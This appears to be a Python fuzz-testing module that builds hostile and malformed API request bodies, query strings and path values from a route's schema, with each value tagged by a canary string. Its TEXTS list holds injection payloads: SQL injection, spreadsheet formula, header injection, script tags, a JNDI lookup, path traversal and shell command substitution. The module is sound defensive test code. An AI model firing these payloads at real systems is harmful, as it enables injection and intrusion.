"""What an attacker, or a broken client, puts into a request: strategies made from a route's own schema."""

from __future__ import annotations

import json
from typing import Any, cast
from urllib.parse import quote

from hypothesis import strategies as st

from tests.integration.api.surface import Operation, Schema, resolve

CANARY = "kelpcanary7f3a91"
"""Stands in hostile values; no answer may hold it."""
TEXTS = (
    CANARY,
    f"'; drop table users; -- {CANARY}",
    f'" or 1=1 -- {CANARY}',
    f"{CANARY}' union select hash from password_credentials --",
    f"$${CANARY}$$; select pg_sleep(9)",
    f"=cmd|'/c calc'!{CANARY}",
    f"@SUM(1+1)*{CANARY}",
    f"+{CANARY}",
    f"\t{CANARY}",
    f"{CANARY}\r\nset-cookie: a=b\r\n\r\n",
    f"{CANARY}\n2026-11-20 [error] forged line",
    f"\x1b[31m{CANARY}\x1b[0m",
    f"<script>alert('{CANARY}')</script>",
    f"${{jndi:ldap://{CANARY}.example/a}}",
    f"{{{{7*7}}}}{CANARY}",
    f"%s%n%x{CANARY}",
    f"../../../../etc/{CANARY}",
    f"..%2f..%2f{CANARY}",
    f"$(touch /tmp/{CANARY})",
    f"`{CANARY}`",
    f"{CANARY}\x00",
    f"\u202e{CANARY}\u2066",
    f"e\u0301{CANARY}\u0000",
    f"\ud800{CANARY}",
    "\U0001f4a9" * 300 + CANARY,
    CANARY * 600,
    "",
    " ",
)
RAW = (
    b"",
    b"{",
    b"[" * 20_000,
    b'{"a":' * 20_000,
    b"[[[[]]]]",
    b"null",
    b"NaN",
    b"1e309",
    b"-Infinity",
    b'{"quantity": NaN, "limit": 1e309, "scope": -Infinity}',
    b'{"' + CANARY.encode() + b'": 1}',
    b'{"a": 1, "a": "' + CANARY.encode() + b'"}',
    b"\xff\xfe\x00" + CANARY.encode(),
    b'\xef\xbb\xbf{"a": 1}',
    b'"\\ud800' + CANARY.encode() + b'"',
    b'{"a": ' + b"9" * 5000 + b"}",
    b"a=" + CANARY.encode(),
    CANARY.encode("utf-16"),
)
NUMBERS = (0, -1, 1, 2**31, 2**63, -(2**63) - 1, 10**40, 1e308, -0.0, 1e-320, float("nan"), float("inf"))
NUMBER_TEXTS = (
    "NaN",
    "1e309",
    "-1",
    "-0",
    "Infinity",
    "1_000",
    "٣",
    "0x10",
    "1." + "9" * 60,
    "9" * 400,
    " 1",
    "1e-400",
)
MEDIA = ("application/json", "application/json; charset=utf-7", "text/plain", "application/xml", CANARY, "")
QUERIES = (
    *TEXTS[:12],
    *NUMBER_TEXTS,
    "AAAA",
    "W10",
    "WzFd",
    "bnVsbA",
    "Wy0xXQ",
    "WyIwMDAxLTAxLTAxVDAwOjAwOjAwKzAwOjAwIl0",
)


def texts() -> st.SearchStrategy[str]:
    return st.sampled_from(TEXTS) | st.sampled_from(NUMBER_TEXTS) | st.text(max_size=20).map(lambda text: text + CANARY)


def leaves() -> st.SearchStrategy[Any]:
    return st.none() | st.booleans() | st.sampled_from(NUMBERS) | texts()


def junk() -> st.SearchStrategy[Any]:
    """Any JSON at all."""
    return st.recursive(
        leaves(), lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts(), inner, max_size=3), max_leaves=6
    )


def plausible(document: Schema, schema: Schema, depth: int = 0) -> st.SearchStrategy[Any]:
    """Values of a schema's shape, so that the hostile part reaches what stands behind the first check."""
    schema = resolve(document, schema)
    if depth > 3:
        return st.none()
    for key in ("anyOf", "oneOf"):
        if key in schema and "properties" not in schema:
            return st.one_of([plausible(document, part, depth + 1) for part in schema[key]])
    if "enum" in schema:
        return st.sampled_from(cast("list[Any]", schema["enum"]))
    if "const" in schema:
        return st.just(schema["const"])
    kind = schema.get("type")
    if isinstance(kind, list):
        choices = [{**schema, "type": one} for one in cast("list[str]", kind)]
        return st.one_of([plausible(document, choice, depth + 1) for choice in choices])
    if kind == "object":
        properties: dict[str, Schema] = schema.get("properties", {})
        fields = {name: mostly(plausible(document, part, depth + 1)) for name, part in properties.items()}
        required = {name: fields.pop(name) for name in list(fields) if name in schema.get("required", ())}
        return st.fixed_dictionaries(required, optional=fields)
    if kind == "array":
        return st.lists(plausible(document, schema.get("items", {}), depth + 1), max_size=3)
    if kind == "boolean":
        return st.booleans()
    if kind in {"integer", "number"}:
        return st.integers(-5, 500) | st.sampled_from(NUMBERS)
    if kind == "string":
        return strings(schema)
    return leaves()


def strings(schema: Schema) -> st.SearchStrategy[Any]:
    if schema.get("format") == "uuid":
        return st.uuids().map(str)
    if schema.get("format") == "decimal":
        return st.sampled_from(("1", "0.5", "100", *NUMBER_TEXTS))
    if schema.get("format") == "date-time":
        return st.sampled_from(("2026-11-20T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59+14:00", "x"))
    return texts()


def mostly(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """The strategy four times out of five, else junk."""
    return st.integers(0, 4).flatmap(lambda number: junk() if number == 0 else strategy)


def encode(value: Any) -> bytes:
    """Write JSON as a careless client does: NaN, lone surrogates and all."""
    return json.dumps(value, allow_nan=True).encode()


def _with_unknown_fields(value: Any) -> Any:
    return {**cast("dict[str, Any]", value), CANARY: CANARY, "user_id": CANARY} if isinstance(value, dict) else value


def bodies(document: Schema, operation: Operation) -> st.SearchStrategy[bytes]:
    """What is sent as the body of a route."""
    wanted = operation.spec.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
    any_json = junk().map(encode) | st.sampled_from(RAW)
    if wanted is None:
        return st.just(b"") | any_json
    shaped = plausible(document, wanted)
    unknown = shaped.map(_with_unknown_fields)
    return shaped.map(encode) | shaped.map(encode) | unknown.map(encode) | any_json


def queries(operation: Operation) -> st.SearchStrategy[str]:
    """A query string: its own parameters with hostile values, and one that is not its own."""
    names = [parameter["name"] for parameter in operation.parameters("query")] + [CANARY]
    pair = st.tuples(st.sampled_from(names), st.sampled_from(QUERIES))
    return st.lists(pair, max_size=3).map(
        lambda pairs: "&".join(f"{name}={quote(value, errors='surrogatepass')}" for name, value in pairs)
    )


def path_values(real: str) -> st.SearchStrategy[str]:
    """A path parameter: a real one, or something that is none."""
    hostile = [quote(text, safe="", errors="surrogatepass")[:2000] for text in TEXTS if text.strip()]
    return st.sampled_from([real] * len(hostile) + hostile)
